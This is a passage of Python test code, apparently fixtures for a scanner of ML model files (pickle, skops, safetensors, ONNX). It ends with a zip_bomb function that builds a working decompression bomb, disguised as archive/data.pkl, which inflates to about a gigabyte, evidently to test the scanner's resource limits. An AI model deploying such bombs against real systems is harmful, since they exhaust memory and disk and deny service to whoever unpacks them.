    Case("sklearn-mlp-pickle", "pickle.dumps (MLP with its RandomState)", "mlp.pkl",
         lambda: pickle.dumps(_sklearn_model("mlp"))),
    Case("skops-function-transformer", "skops.io.dumps (a numpy ufunc skops trusts)", "f.skops",
         _skops_ufunc),
    Case("safetensors", "safetensors.torch.save", "m.safetensors", _safetensors),
    Case("onnx-pipeline", "skl2onnx", "p.onnx", _onnx),
    *(Case(f"plain-pickle-proto{k}", "pickle.dumps", "d.pkl", _plain(k)) for k in range(6)),
    Case("numpy-in-pickle", "pickle.dumps of numpy arrays and scalars", "np.pkl", _numpy_pickle),
)


def zip_bomb(size: int = 1 << 30) -> bytes:
    """A zip whose single member inflates to ``size`` zero bytes (about 1000:1)."""
    comp = zlib.compressobj(1, zlib.DEFLATED, -15)
    chunk = b"\x00" * (1 << 20)
    body = b"".join(comp.compress(chunk) for _ in range(size >> 20)) + comp.flush()
    crc = 0
    for _ in range(size >> 20):
        crc = zlib.crc32(chunk, crc)
    name = b"archive/data.pkl"
    local = struct.pack("<4sHHHHHIIIHH", b"PK\x03\x04", 20, 0, 8, 0, 0, crc, len(body), size & 0xFFFFFFFF,
                        len(name), 0) + name
    central = struct.pack("<4sHHHHHHIIIHHHHHII", b"PK\x01\x02", 20, 20, 0, 8, 0, 0, crc, len(body),
                          size & 0xFFFFFFFF, len(name), 0, 0, 0, 0, 0, 0) + name
    end = struct.pack("<4sHHHHIIH", b"PK\x05\x06", 0, 0, 1, 1, len(central), len(local) + len(body), 0)
    return local + body + central + end
